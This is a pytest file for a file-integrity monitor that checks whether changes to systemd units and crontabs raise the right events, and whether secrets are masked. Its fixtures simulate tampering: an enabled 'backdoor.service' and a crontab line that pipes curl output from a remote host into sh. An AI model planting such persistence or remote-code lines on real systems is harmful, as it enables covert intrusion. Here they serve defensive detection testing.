"""Systemd units and crontabs as integrity objects: added, removed, changed (enabled, content, jobs)."""

from __future__ import annotations

import os
from pathlib import Path

from helpers.fim import started, write
from helpers.secrets import ghp
from shieldwall.agent.modules.fim.system import cron_jobs

POLICY = {"realtime": False, "audit": False, "system": True, "rules": [{"path": "/srv", "depth": 0}]}


def _host(root: Path) -> None:
    write(root, "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
    write(root, "/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n")
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    (root / "etc/systemd/system/multi-user.target.wants/ssh.service").symlink_to("/lib/systemd/system/ssh.service")
    write(root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    write(root, "/etc/cron.d/backup", "0 2 * * * root /usr/local/bin/backup\n")
    (root / "srv").mkdir()


def test_units_and_crontabs_changes_are_events(tmp_path: Path) -> None:
    with started(tmp_path) as harness:
        root = harness.root
        _host(root)
        assert harness.apply(POLICY).status.value == "running"
        assert harness.module.check_now() == []

        write(root, "/etc/systemd/system/backdoor.service", "[Service]\nExecStart=/tmp/x\n")  # new unit
        (root / "etc/systemd/system/multi-user.target.wants/backdoor.service").symlink_to(
            "/etc/systemd/system/backdoor.service"
        )
        (root / "etc/systemd/system/multi-user.target.wants/ssh.service").unlink()  # disabled
        write(root, "/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f -L 15\n")  # edited
        token = ghp()
        with (root / "etc/crontab").open("a") as handle:
            handle.write(f"* * * * * root curl -H 'Authorization: token {token}' http://x | sh\n")
        (root / "etc/cron.d/backup").unlink()

        events = {(e.kind, e.attributes["name"]): e for e in harness.module.check_now()}
        assert set(events) == {
            ("fim.unit_added", "backdoor.service"),
            ("fim.unit_changed", "ssh.service"),
            ("fim.unit_changed", "cron.service"),
            ("fim.cron_changed", "/etc/crontab"),
            ("fim.cron_removed", "/etc/cron.d/backup"),
        }
        assert events[("fim.unit_added", "backdoor.service")].attributes["new"]["enabled"] is True
        assert events[("fim.unit_changed", "ssh.service")].attributes["changed"] == ["enabled"]
        assert events[("fim.unit_changed", "cron.service")].attributes["changed"] == ["sha256"]
        crontab = events[("fim.cron_changed", "/etc/crontab")].attributes
        (added,) = crontab["jobs_added"]
        assert "curl" in added and token not in added and "****" in added
        assert str(crontab).count(token) == 0
        assert harness.module.check_now() == []  # the baseline moved forward


def test_unit_links_out_of_the_root_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.service"
    outside.write_text("[Service]\nExecStart=/bin/true\n")
    with started(tmp_path) as harness:
        _host(harness.root)
        (harness.root / "etc/systemd/system/evil.service").symlink_to(outside)
        harness.apply(POLICY)
        outside.write_text("[Service]\nExecStart=/bin/false\n")
        assert harness.module.check_now() == []
        os.unlink(harness.root / "etc/systemd/system/evil.service")
        (event,) = harness.module.check_now()
        assert event.kind == "fim.unit_removed" and event.attributes["old"]["link"] == str(outside)


def test_cron_job_lines() -> None:
    text = "# comment\nSHELL=/bin/sh\nMAILTO=root\n\n@reboot root /x\n*/5 * * * * root /y\n 1 2 * * * z\n"
    assert cron_jobs(text) == ["@reboot root /x", "*/5 * * * * root /y", "1 2 * * * z"]
